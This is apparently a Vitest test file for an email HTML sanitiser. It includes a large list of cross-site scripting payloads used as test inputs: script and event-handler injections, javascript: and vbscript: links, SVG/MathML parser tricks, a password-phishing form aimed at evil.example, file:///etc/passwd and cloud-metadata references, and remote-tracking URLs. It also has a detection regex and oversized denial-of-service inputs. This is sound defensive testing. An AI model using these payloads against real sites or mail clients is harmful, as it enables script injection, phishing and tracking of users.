import { describe, expect, it } from 'vitest';
import { sanitiseHtml } from '../../../../functions/mail/reading/sanitise-html.ts';

const files = new Map([['logo@x', 'att_logo']]);
const safe = (html: string) => sanitiseHtml(html, files)?.html ?? '';

describe('the HTML of a mail as it is shown', () => {
  it('keeps what people write and how it looks', () => {
    const html =
      '<p style="color:#f00;text-align:center">Hello <b>you</b></p><ul><li>one</li></ul><table border="1"><tr><td colspan="2">x</td></tr></table>';
    expect(safe(html)).toBe(html.replace('text-align:center', 'text-align:center'));
  });

  it('opens links elsewhere, and tells nobody where they were', () => {
    expect(safe('<a href="https://a.example" onclick="x()" title="t">a</a>')).toBe(
      '<a href="https://a.example" title="t" rel="noopener noreferrer nofollow" target="_blank">a</a>',
    );
  });

  it('names inline images by their file, and moves foreign ones aside', () => {
    const html =
      '<img src="cid:logo@x" alt="Logo" width="10"><img src="http://t.example/p.gif"><img src="//t.example/q"><img src="cid:none@x" alt="gone"><img src="data:image/png;base64,AAAA">';
    expect(sanitiseHtml(html, files)).toEqual({
      html: '<img alt="Logo" width="10" data-attachment-id="att_logo" /><img data-remote-src="http://t.example/p.gif" /><img data-remote-src="//t.example/q" /><img alt="gone" /><img src="data:image/png;base64,AAAA" />',
      remoteImages: 2,
    });
  });

  it('is not kept when nothing of it may be shown', () => {
    expect(sanitiseHtml('<script>x</script>', files)).toBeUndefined();
  });
});

/** Families of what attackers put into HTML; each is written in several ways. */
const payloads: Readonly<Record<string, readonly string[]>> = {
  scripts: [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script/x>alert(1)</script >',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
  ],
  handlers: [
    '<img src=x onerror=alert(1)>',
    '<p OnMouseOver="alert(1)">x</p>',
    '<body onload=alert(1)>',
    '<img/src/onerror=alert(1)>',
    '<a href="#" onfocus=alert(1) autofocus>x</a>',
    '<details open ontoggle=alert(1)>x</details>',
    '<video><source onerror=alert(1)></video>',
  ],
  schemes: [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img src="file:///etc/passwd">',
  ],
  'foreign languages': [
    '<svg onload=alert(1)>',
    '<svg><style><img src=x onerror=alert(1)></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>x</a></svg>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<!--><img src=x onerror=alert(1)>-->',
  ],
  'forms and frames': [
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="x.swf"></object>',
    '<embed src="x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<textarea><img src=x onerror=alert(1)></textarea>',
  ],
  overlays: [
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
    '<div style="position: absolute; inset:0">x</div>',
    '<p style="margin-left:-9999px;display:none;opacity:0">x</p>',
    '<style>body{display:none}</style>',
  ],
  'requests to elsewhere': [
    '<div style="background:url(https://evil.example/t)">x</div>',
    '<div style="background-image:url(//evil.example/t)">x</div>',
    '<div style="list-style:url(https://evil.example/t)">x</div>',
    '<table background="https://evil.example/t"><tr><td background="https://evil.example/t">x</td></tr></table>',
    '<img srcset="https://evil.example/t 1x" src="">',
    '<video poster="https://evil.example/t"></video>',
    '<svg><filter><feImage href="https://evil.example/t"/></filter></svg>',
    '<audio src="https://evil.example/t"></audio>',
    '<p style="font-family:url(https://evil.example/t)">x</p>',
    '<p style="color:expression(alert(1))">x</p>',
    '<input type=image src="https://evil.example/t">',
    '<img src="https://evil.example/t">',
    '<img src="\thttps://evil.example/t">',
    '<img src="http://169.254.169.254/latest">',
  ],
};

const elements = 'a|b|p|div|span|img|table|tbody|tr|td|ul|li|br|i';

/** What would run, load or move when the browser reads it: every tag is one of ours, with attributes of ours. */
const harmful = (html: string): readonly string[] =>
  [...html.matchAll(/<[^>]*>/g)]
    .map(([tag]) => tag)
    .filter(
      (tag) =>
        !new RegExp(`^</?(?:${elements})(?:\\s|/?>)`).test(tag) ||
        /\son\w+\s*=|\ssrc(?:set)?="(?!data:image\/(?:png|jpeg|gif|webp))|javascript:|vbscript:|url\(|position|expression|href="(?!https?:|mailto:|tel:)|background=/i.test(
          tag,
        ),
    );

describe.each(Object.entries(payloads))('classes 28, 31, 32, 33: %s', (_family, list) => {
  it.each(list.flatMap((one) => [one, one.toUpperCase(), `<p>before ${one} after</p>`]))(
    'are inert: %s',
    (html) => {
      const shown = safe(html);
      expect(harmful(shown), shown).toEqual([]);
      expect(harmful(safe(shown))).toEqual([]);
    },
  );
});

describe('class 41: HTML beyond the budgets is not shown, at once', () => {
  it.each([
    ['2,000 levels', `${'<div>'.repeat(2000)}x`],
    ['a megabyte of levels', '<div>'.repeat(200_000)],
    ['a megabyte of brackets', '<'.repeat(1_000_000)],
    ['a megabyte of ampersands', '&'.repeat(1_000_000)],
    ['more than a megabyte', 'x'.repeat(1_100_000)],
    ['30,000 elements', '<b>x</b>'.repeat(30_000)],
  ])('%s', (_what, html) => {
    const start = performance.now();
    expect(sanitiseHtml(html, files)).toBeUndefined();
    expect(performance.now() - start).toBeLessThan(1000);
  });
});
